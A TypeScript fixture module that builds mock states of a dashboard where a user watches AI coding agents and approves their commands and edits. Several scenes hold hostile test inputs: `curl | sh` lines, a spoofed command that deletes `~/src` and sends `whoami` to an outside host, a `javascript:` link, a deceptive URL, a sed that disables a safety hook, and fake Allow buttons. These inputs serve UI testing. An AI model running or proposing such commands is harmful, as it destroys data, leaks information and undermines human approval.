/**
 * Views to look at: every state of the flock page, made by hand. Used by the gallery only.
 *
 * @module
 */

import {
  type ActionView,
  type Activity,
  type CardView,
  DEFAULT_SETTINGS,
  type DiffLine,
  type EndedView,
  type FlockView,
  type SessionView,
  SPECIES,
  type Status,
} from "../../app/view/mod.ts";
import { pageId, requestId, type SessionKey, sessionKey } from "../../protocol/mod.ts";

const AGENTS = [
  { id: "claude", label: "Claude Code" },
  { id: "codex", label: "Codex" },
  { id: "opencode", label: "OpenCode" },
  { id: "qwen", label: "Qwen Code" },
  { id: "copilot", label: "Copilot CLI" },
] as const;
const PROJECTS = ["shop", "atlas", "notes", "infra", "blog", "docs", "lab", "mail"] as const;

type Some<T> = { -readonly [name in keyof T]?: T[name] };

function pick<T>(list: readonly T[], at: number): T {
  const item = list[at % list.length];
  if (item === undefined) throw new Error("Cannot pick from an empty list");
  return item;
}

function session(at: number, now: number, more: Some<SessionView> = {}): SessionView {
  const project = pick(PROJECTS, at);
  const agent = pick(AGENTS, at);
  return {
    key: sessionKey(`${agent.id}:s${at}`),
    agent,
    project,
    folder: `/home/ada/src/${project}`,
    projectKey: `/home/ada/src/${project}`,
    number: 1,
    species: pick(SPECIES, at),
    status: "idle",
    steps: [],
    stepCount: 0,
    waitedMs: 0,
    subagents: 0,
    waiting: 0,
    demo: false,
    started: now - 600_000,
    updated: now - 1_000,
    ...more,
  };
}

const REPLY = `All 14 modules **plan cleanly**. What I did:

1. Moved \`provider.tf\` to the new major version
2. Renamed three arguments:
   - \`acl\` to \`access\`
   - \`tags\` to \`labels\`

\`\`\`sh
terraform plan -out plan.bin
\`\`\`

Nothing was applied. Shall I?`;

/** The last steps of a session that edits. */
const STEPS = (now: number): SessionView["steps"] => [
  { n: 35, at: now - 300_000, activity: "read", tool: "Read", detail: "cart_test.ts" },
  { n: 36, at: now - 280_000, activity: "search", tool: "Grep", detail: "oldCart\\(" },
  { n: 37, at: now - 200_000, activity: "run", tool: "Bash", detail: "deno check", byRule: true },
  {
    n: 38,
    at: now - 150_000,
    activity: "test",
    tool: "Bash",
    detail: "deno test -A",
    failed: true,
  },
  { n: 39, at: now - 110_000, activity: "mcp", tool: "github · get_issue" },
  {
    n: 40,
    at: now - 62_000,
    activity: "edit",
    tool: "Edit",
    detail: "vat.ts",
    diff: { added: 12, removed: 0, cut: true },
  },
  {
    n: 41,
    at: now - 20_000,
    activity: "web",
    tool: "WebFetch",
    detail: "https://docs.example/api",
  },
  {
    n: 42,
    at: now - 4_000,
    activity: "edit",
    tool: "Edit",
    detail: "totals.ts",
    diff: { added: 4, removed: 2, cut: false },
  },
];

/** Eight sessions as in the drafts of the page. */
function eight(now: number, needs: boolean): SessionView[] {
  return [
    session(0, now, {
      task: "Add VAT to the checkout totals",
      ...(needs ? { status: "approval" as const, waiting: 1 } : { status: "thinking" as const }),
    }),
    session(1, now, {
      project: "shop",
      number: 2,
      species: "griffon",
      status: "working",
      activity: "edit",
      detail: "totals.ts",
      task: "Port the cart tests to the new API",
      branch: "vat",
      steps: STEPS(now),
      stepCount: 42,
      costUsd: 1.84,
      waitedMs: 250_000,
      terminal: "tmux",
      subagents: 2,
      updated: now - 4_000,
    }),
    session(1, now, {
      key: sessionKey("claude:a"),
      agent: AGENTS[0],
      status: "working",
      activity: "test",
      detail: "deno test -A",
      task: "Make the tile cache survive a restart",
      updated: now - 21_000,
    }),
    session(2, now, {
      status: "terminal",
      note: "Which port?",
      task: "Serve the notes on the LAN",
      updated: now - 125_000,
    }),
    session(3, now, {
      status: "finished",
      note: "All 14 modules plan cleanly.",
      reply: REPLY,
      task: "Upgrade the provider",
      updated: now - 370_000,
    }),
    session(4, now, {
      status: "failed",
      note: "Model overloaded",
      task: "Fix the feed dates",
      updated: now - 550_000,
    }),
    session(5, now, {
      status: "working",
      activity: "web",
      detail: "https://docs.example/api",
      task: "Describe the new endpoints",
      agent: { id: "vibe", label: "Mistral Vibe" },
      updated: now - 12_000,
    }),
    session(6, now, {
      status: "working",
      activity: "run",
      detail: "make all",
      task: "Train the small model",
      agent: { id: "droid", label: "Factory Droid" },
      quiet: "quiet",
      updated: now - 430_000,
    }),
  ];
}

function many(count: number, now: number): SessionView[] {
  const states: readonly [Status, Activity | undefined][] = [
    ["working", "read"],
    ["working", "edit"],
    ["thinking", undefined],
    ["finished", undefined],
    ["working", "run"],
    ["idle", undefined],
    ["working", "web"],
    ["terminal", undefined],
    ["working", "search"],
    ["failed", undefined],
    ["ratelimited", undefined],
  ];
  return Array.from({ length: count }, (_, at) => {
    const [status, activity] = pick(states, at);
    return session(at, now, {
      key: sessionKey(`claude:m${at}`),
      status,
      ...(activity === undefined ? {} : { activity, detail: `file_${at}.ts` }),
      task: `Task number ${at} of this long day`,
      number: Math.floor(at / PROJECTS.length) + 1,
      ...(at === 9 ? { waiting: 1, status: "approval" as const } : {}),
      updated: now - at * 7_000,
    });
  });
}

interface Request {
  readonly action: ActionView;
  readonly more?: Some<CardView>;
  readonly left?: number;
}

function card(of: SessionView, at: number, now: number, request: Request): CardView {
  const left = request.left ?? 92_000;
  return {
    request: requestId(`r${at}-${now}`),
    hash: `h${at}-${now}`,
    session: of.key,
    agent: of.agent,
    project: of.project,
    ...(of.folder === undefined ? {} : { folder: of.folder }),
    species: of.species,
    ...(of.task === undefined ? {} : { task: of.task }),
    action: request.action,
    allow: true,
    recentReasons: [],
    promptOpen: true,
    demo: of.demo,
    arrived: now - 108_000 + left + at,
    deadline: now + left + at,
    ...request.more,
  };
}

function view(now: number, sessions: readonly SessionView[], requests: readonly Request[] = []) {
  const waits = sessions.filter(({ waiting }) => waiting > 0);
  const cards = requests.map((request, at) => card(pick(waits, at), at, now, request));
  const front: SessionKey | undefined = cards[0]?.session ?? sessions[0]?.key;
  const whole: FlockView = {
    format: 1,
    version: "gallery",
    home: "/home/ada",
    sessions: Object.fromEntries(sessions.map((one) => [one.key, one])),
    order: sessions.map(({ key }) => key),
    ...(front === undefined ? {} : { front }),
    cards: Object.fromEntries(cards.map((one) => [one.request, one])),
    queue: cards.map(({ request }) => request),
    ended: [],
    choices: [],
    settings: DEFAULT_SETTINGS,
    usage: [],
    alarms: [],
    revisions: { rules: 0, record: 0, signIns: 0 },
  };
  return whole;
}

function lines(mark: DiffLine["mark"], from: number, texts: readonly string[]): DiffLine[] {
  return texts.map((text, at) => ({
    mark,
    ...(mark === "+" ? {} : { old: from + at }),
    ...(mark === "-" ? {} : { new: from + at }),
    text,
  }));
}

/** What an edit changes in most scenes. */
export const DIFF: readonly DiffLine[] = [
  ...lines(" ", 41, ["export function total(cart: Cart): Money {"]),
  ...lines("-", 42, ["  return sum(cart.lines.map((l) => l.price));", "}"]),
  ...lines("+", 42, [
    "  const net = sum(cart.lines.map((l) => l.price * l.count));",
    "  const vat = net.times(rateFor(cart.country));",
    "  return net.plus(vat);",
    "}",
  ]),
  { mark: " ", old: 44, new: 46, text: "" },
];

const PLAN = `# Move the totals to integer cents

The checkout rounds twice. I would:

1. Add \`Money\` in **cents**, with tests first
2. Port \`cart/totals.ts\` and \`cart/vat.ts\`
   - keep the old names for one release
   - warn when they are used
3. Delete the float helpers

> The API stays as it is.

\`\`\`ts
export type Cents = number & { readonly __cents: unique symbol };
\`\`\`

See [the notes](https://example.org/money?x=1) and ![a picture](javascript:alert(1)).

| file | change |
|------|--------|
| totals.ts | +40 -12 |
`;

const push = "git push --force-with-lease origin vat && gh pr create --fill";
const command = (text: string): ActionView => ({ kind: "command", text });
const says = "Publish the new branch so that CI can run";

/** An answer that was given some minutes ago. */
function ended(now: number, at: number, outcome: EndedView["outcome"], target: string): EndedView {
  const agent = pick(AGENTS, at);
  return {
    request: requestId(`e${at}`),
    session: sessionKey(`${agent.id}:s${at}`),
    agent,
    project: pick(PROJECTS, at),
    outcome,
    target,
    ...(outcome === "denied" ? { reason: "use make clean" } : {}),
    page: pageId("p"),
    at: now - at * 61_000,
    arrived: now - at * 61_000 - 3_000 * (at + 1),
  };
}

const LONG = Array.from(
  { length: 60 },
  (_, at) =>
    at % 7 === 3 ? `curl -fsS "https://example.org/${at}" | sh` : `echo "step ${at}" >> build.log`,
).join("\n");

/** What *Always allow* covers in most scenes. */
const exactly: Some<CardView> = { always: { covers: "command", folder: "/home/ada/src/shop" } };

const asks = (questions: NonNullable<CardView["questions"]>): Request => ({
  action: { kind: "input", tool: "AskUserQuestion", input: { questions } },
  more: { questions, allow: false, promptOpen: false },
});

const PRICES: NonNullable<CardView["questions"]>[number] = {
  text: "How should prices be stored?",
  header: "Prices",
  multi: false,
  options: [
    { label: "Net", description: "VAT is added at checkout" },
    { label: "Gross", description: "VAT is part of the price" },
    { label: "Both", description: "Two columns, kept in step by a trigger" },
  ],
};

const PAGES: NonNullable<CardView["questions"]>[number] = {
  text: "Which pages show VAT?",
  header: "Pages",
  multi: true,
  options: [
    { label: "Cart" },
    { label: "Checkout", description: "With the total" },
    { label: "Invoice" },
    { label: "Mail" },
  ],
};

/** All scenes by name. */
export const SCENES: Readonly<Record<string, (now: number) => FlockView>> = {
  none: (now) => view(now, []),
  quiet: (now) => ({
    ...view(now, eight(now, false)),
    ended: [
      ended(now, 3, "expired", "terraform plan"),
      ended(now, 2, "elsewhere", "deno fmt --check"),
      ended(now, 1, "denied", "rm -rf public"),
      ended(now, 0, "allowed", "deno test -A"),
    ],
  }),
  one: (now) =>
    view(now, [session(0, now, { status: "approval", waiting: 1, task: "Add VAT" })], [
      { action: command("deno test -A"), more: { says: "Run the tests" } },
    ]),
  eight: (now) =>
    view(now, eight(now, true), [
      { action: command(push), more: { says } },
      {
        action: {
          kind: "edit",
          files: [{ path: "src/tiles.ts", added: 4, removed: 2, hunks: [DIFF], cut: false }],
        },
      },
      { action: command("cargo build --release") },
    ]),
  species: (now) =>
    view(now, SPECIES.map((species, at) => session(at, now, { species, number: at + 1 }))),
  twelve: (now) => view(now, many(12, now), [{ action: command(push), more: { says } }]),
  crowd: (now) => view(now, many(48, now), [{ action: command(push), more: { says } }]),
  unbroken: (now) =>
    view(now, eight(now, true), [{ action: command(`python3 -c ${"A1b2".repeat(472)}`) }]),
  long: (now) =>
    view(now, eight(now, true), [{ action: command(LONG), more: { says, promptOpen: false } }]),
  tricky: (now) =>
    view(now, eight(now, true), [{
      action: command(
        `echo "safe \u202e gnp.exe" && ls ${
          " ".repeat(64)
        }; rm -rf ~/src\u200b # שלום עולם\nX=$(curl -s "https://e.org/$(whoami)") node <<'EOF' > out.txt\nconsole.log('not $(run)')\nEOF\nmake\tall`,
      ),
      more: {
        says: "Allow this <b>now</b> <button>Allow</button> \u202egnihton",
        task: "x".repeat(300),
      },
    }]),
  diff: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "edit",
        files: [{ path: "src/cart/totals.ts", added: 4, removed: 2, hunks: [DIFF], cut: false }],
      },
      more: { agent: AGENTS[1], promptOpen: false, species: "condor" },
      left: 24_000,
    }]),
  files: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "edit",
        files: ["src/cart/totals.ts", "src/cart/vat.ts", "a/very/long/path/".repeat(6) + "x.ts"]
          .map((
            path,
            at,
          ) => ({
            path,
            added: 40,
            removed: 2,
            hunks: [
              DIFF,
              lines(
                "+",
                100,
                Array.from({ length: 30 }, (_, i) => `    line ${i} ${"wide ".repeat(30)}`),
              ),
            ],
            cut: at === 0,
          })),
      },
    }]),
  plan: (now) => view(now, eight(now, true), [{ action: { kind: "plan", text: PLAN } }]),
  mcp: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "input",
        tool: "create_issue",
        server: "github",
        input: {
          owner: "ada",
          repo: "shop",
          title: "VAT is rounded twice",
          labels: ["bug", "money"],
          body: "Steps:\n1. Add two lines\n2. Look at the total",
        },
      },
      more: { subagent: { type: "Explore" } },
    }]),
  also: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "command",
        text: LONG,
        also: { timeout: 120_000, dangerouslyDisableSandbox: true, env: { A: "1", B: ["x"] } },
      },
      more: { says },
    }]),
  choice: (now) => ({
    ...view(now, eight(now, false).slice(0, 3)),
    choices: [{ agent: AGENTS[4], on: false }],
  }),
  removal: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "edit",
        files: [
          { path: "src/old.ts", kind: "delete", added: 0, removed: 0, hunks: [], cut: false },
          {
            path: "src/a.ts",
            kind: "move",
            to: "src/b.ts",
            added: 0,
            removed: 0,
            hunks: [],
            cut: false,
          },
          {
            path: "src/new.ts",
            kind: "create",
            added: 1,
            removed: 0,
            hunks: [[{ mark: "+", new: 1, text: "x" }]],
            cut: false,
          },
          { path: "src/unknown.ts", added: 0, removed: 0, hunks: [], cut: true },
        ],
        also: { replace_all: true },
      },
    }]),
  question: (now) => view(now, eight(now, true), [asks([PRICES]), { action: command(push) }]),
  questions: (now) =>
    view(now, eight(now, true), [asks([
      PRICES,
      PAGES,
      { ...PRICES, text: "And for other countries?", header: "Abroad" },
      { ...PAGES, text: `Where does the rate come from, ${"in the long run and ".repeat(8)}now?` },
    ])]),
  deletes: (now) =>
    view(now, eight(now, true), [{
      action: command("rm -rf build && make all"),
      more: {
        ...exactly,
        says: "Build from nothing",
        risk: { kind: "deletes", part: "rm -rf build" },
        recentReasons: ["Use make clean", "Not on Fridays, the release is out", "Ask me first"],
      },
    }]),
  leaves: (now) =>
    view(now, eight(now, true), [{
      action: command(push),
      more: { ...exactly, says, risk: { kind: "leaves", part: "git push" } },
    }, { action: command("cargo build --release") }]),
  vults: (now) =>
    view(now, eight(now, true), [{
      action: command("sed -i s/vults-hook/true/ ~/.claude/settings.json"),
      more: {
        risk: { kind: "changes_vults", part: "~/.claude/settings.json" },
        always: { not: "changes_vults" },
        subagent: { type: "general-purpose" },
      },
    }]),
  ruled: (now) =>
    view(now, eight(now, true), [{
      action: command(LONG),
      more: { ...exactly, says, promptOpen: false, recentReasons: ["Use make clean"] },
    }]),
  ruledFile: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "edit",
        files: [{
          path: "/home/ada/src/shop/packages/checkout/src/cart/totals.ts",
          added: 4,
          removed: 2,
          hunks: [DIFF, DIFF, DIFF, DIFF, DIFF],
          cut: false,
        }],
      },
      more: { always: { covers: "file", folder: "/home/ada/src/shop/packages/checkout" } },
    }]),
  cutEdit: (now) =>
    view(now, eight(now, true), [{
      action: {
        kind: "edit",
        files: [{
          path: "src/big.ts",
          kind: "create",
          added: 6,
          removed: 0,
          hunks: [DIFF],
          cut: true,
        }],
      },
      more: { always: { not: "cut" } },
    }]),
  called: (now) =>
    view(now, eight(now, true), [{
      action: command("make all"),
      more: { calledUntil: now + 18_000, promptOpen: false, ...exactly },
    }]),
  url: (now) =>
    view(now, eight(now, true), [{
      action: { kind: "url", url: "https://github.com@evil.example:8443/a?b=c#d" },
    }]),
  cut: (now) =>
    view(now, eight(now, true), [{
      action: command(LONG + "\n…"),
      more: { allow: false, cut: { thing: "command", bytes: 65_536 }, promptOpen: false },
    }]),
  told: (now) => ({
    ...view(now, eight(now, false)),
    usage: [
      { agent: AGENTS[0], minutes: 300, percent: 72, resetsAt: now / 1_000 + 5_400 },
      { agent: AGENTS[0], minutes: 10_080, percent: 12, resetsAt: now / 1_000 + 300_000 },
      { agent: AGENTS[1], minutes: 300, percent: 20 },
    ],
    settings: {
      ...DEFAULT_SETTINGS,
      presence: "paused",
      dndUntil: Math.round(now / 1_000) + 1_800,
      projects: { "/home/ada/src/shop": { pin: true, mute: true } },
    },
    digest: { finished: 3, failed: 1, waiting: 2, longestMs: 260_000, at: now },
    notKept: "write_failed",
    alarms: [{ id: "a", kind: "sign_in", browser: "Firefox on macOS", at: now }],
  }),
  alarms: (now) => ({
    ...view(now, eight(now, true), [{ action: command(push), more: { says } }]),
    alarms: [
      { id: "b", kind: "signed_in", browser: "Chrome on Linux", at: now, signIn: "b" },
      { id: "c", kind: "agent_page", program: "node", at: now },
    ],
  }),
  history_off: (now) => ({
    ...view(now, eight(now, false)),
    settings: { ...DEFAULT_SETTINGS, history: false },
  }),
};
